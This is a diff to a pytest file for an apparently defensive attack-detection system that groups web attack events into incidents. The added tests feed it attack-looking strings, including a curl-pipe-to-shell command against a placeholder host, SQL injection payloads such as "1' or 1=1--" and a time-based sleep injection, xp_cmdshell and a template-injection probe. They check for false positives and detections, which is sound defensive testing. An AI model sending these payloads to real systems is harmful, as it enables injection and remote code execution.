@@ -4,6 +4,7 @@ from collections.abc import Sequence
 from datetime import timedelta
 from itertools import pairwise
 from typing import Any
+from urllib.parse import quote_plus
 
 import pyarrow as pa
 import pytest
@@ -122,7 +123,7 @@ def test_one_sure_exploit_or_one_success_is_an_incident_at_once() -> None:
         "high"
     ]
     assert incidents(attack("sqli", "/?q=a", score=0.6)) == []
-    doubted = [attack("sqli", f"/?q={word}", n, score=0.6) for n, word in enumerate("abcd")]
+    doubted = [attack("sqli", f"/?id={word}", n, score=0.6) for n, word in enumerate("abcd")]
     assert incidents(*doubted[:3]) == []
     assert len(incidents(*doubted)) == 1
     assert [i.stage for i in incidents(attack("webshell", "/up/x.php", outcome="worked"))] == ["foothold"]
@@ -133,9 +134,57 @@ def test_quiet_for_long_ends_an_incident() -> None:
     desk.read(events([attack("rce", "/a", 0)]))
     desk.read(events([attack("rce", "/b", 5 * 3600, position=1)]))
     assert len(desk.own) == 1
-    desk.read(events([attack("rce", "/c", 12 * 3600, position=2)]))
-    assert [i.events for i in desk.own] == [2, 1]
-    assert len(incidents(attack("rce", "/a", 0), attack("rce", "/c", 12 * 3600))) == 2
+    desk.read(events([attack("rce", "/c", 28 * 3600, position=2)]))
+    assert [i.events for i in desk.own] == [3]
+    desk.read(events([attack("rce", "/d", 53 * 3600, position=3)]))
+    assert [i.events for i in desk.own] == [3, 1]
+    assert len(incidents(attack("rce", "/a", 0), attack("rce", "/c", 25 * 3600))) == 2
+
+
+def test_what_is_no_incident_yet_is_forgotten_sooner() -> None:
+    probes = [attack("probe", f"/p{n}", n * 7 * 3600) for n in range(3)]
+    assert incidents(*probes) == []
+    assert len(incidents(*[attack("probe", f"/p{n}", n * 5 * 3600) for n in range(3)])) == 1
+
+
+CODE = ["union all select null", "<?php echo", "import os; os.system", "__proto__", "cat /etc/hosts",
+        "<div onclick=", "xp_cmdshell", "file:///tmp", "{% for x in y %}", "curl -s https://a.example | sh",
+        "phpinfo()", "INSERT INTO t VALUES (1)"]  # fmt: skip
+
+
+def searches(words: Sequence[str], every: float) -> list[dict[str, Any]]:
+    return [
+        attack("sqli", f"/search?type=code&q={quote_plus(word)}", n * every, score=0.8, outcome="unknown")
+        for n, word in enumerate(words)
+    ]
+
+
+def test_who_searches_for_code_all_day_is_no_attacker() -> None:
+    assert incidents(*searches(CODE, 3600)) == []
+    assert incidents(*searches(CODE[:9], 20)) == []
+    assert incidents(*searches([CODE[0][:n] for n in range(3, 21)], 1)) == []  # typed letter by letter
+
+
+def test_who_sends_a_search_much_that_looks_like_an_attack_is_an_attacker() -> None:
+    assert len(incidents(*searches(CODE, 20))) == 1
+    assert len(incidents(*searches(["1' or 1=1--", 'x" and sleep(5)--', "') or 1=1#", "{{7*7}}"], 20))) == 1
+
+
+def test_a_search_in_question_beside_something_else_in_question_counts_as_any_request() -> None:
+    rows = [
+        attack("rce", f"/search?q=a&file={quote_plus(word)}", n, score=0.7)
+        for n, word in enumerate([*CODE[:3], CODE[4]])
+    ]
+    assert len(incidents(*rows)) == 1
+
+
+def test_greetings_of_one_other_protocol_are_one_probe() -> None:
+    hello = [attack("protocol", f"\\x16\\x03\\x01\\x0{n}{n}", n, method=None, path=None) for n in range(9)]
+    assert incidents(*hello) == []
+    others = [
+        attack("protocol", f"\\x0{n}\\x00\\x00", n, method=None, path=None, position=20 + n) for n in (1, 2)
+    ]
+    assert len(incidents(*hello, *others)) == 1
 
 
 def test_addresses_of_one_network_that_do_the_same_are_one_campaign() -> None:
